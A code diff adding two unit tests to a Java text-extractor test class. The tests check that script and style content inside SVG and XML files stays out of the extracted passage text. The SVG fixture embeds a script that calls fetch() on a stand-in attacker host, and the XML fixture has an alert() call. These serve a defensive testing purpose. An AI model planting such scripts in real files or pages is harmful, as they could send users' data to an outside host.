@@ -190,6 +190,33 @@ class TikaTextExtractorTest {
     assertTrue(t.reason().contains("zip bomb"), t.reason());
   }
 
+  @Test
+  void svgScriptIsNotPassageText() throws IOException {
+    Path file = Files.writeString(dir.resolve("position.svg"), "<?xml version=\"1.0\"?>\n"
+        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\">"
+        + "<style>.a { fill: red } /* STYLE-PAYLOAD */</style>"
+        + "<script type=\"text/javascript\"><![CDATA[ fetch('https://attacker.example/?SCRIPT-PAYLOAD') ]]></script>"
+        + "<text x=\"0\" y=\"20\">We support the transparency measures.</text>"
+        + "<foreignObject><h:div><h:script>XHTML-SCRIPT-PAYLOAD</h:script><h:p>Small providers need time.</h:p>"
+        + "</h:div></foreignObject></svg>\n", StandardCharsets.UTF_8);
+    ExtractedText t = extractor.extract(file);
+    assertEquals("image/svg+xml", t.mediaType());
+    assertEquals(FileStatus.OK, t.status());
+    String text = String.join("", t.pages());
+    assertTrue(text.contains("We support the transparency measures.") && text.contains("Small providers need time."),
+        text);
+    assertTrue(!text.contains("PAYLOAD") && !text.contains("fill"), text);
+  }
+
+  @Test
+  void scriptsInOtherXmlAreNotTextEither() throws IOException {
+    Path file = Files.writeString(dir.resolve("response.xml"), "<?xml version=\"1.0\"?>\n<response>"
+        + "<position>We oppose mandatory watermarking.</position><script>alert('XML-SCRIPT-PAYLOAD')</script>"
+        + "</response>\n", StandardCharsets.UTF_8);
+    String text = String.join("", extractor.extract(file).pages());
+    assertTrue(text.contains("We oppose mandatory watermarking.") && !text.contains("PAYLOAD"), text);
+  }
+
   /** A ZIP of the given name/content pairs. */
   private static byte[] zip(Object... entries) throws IOException {
     java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
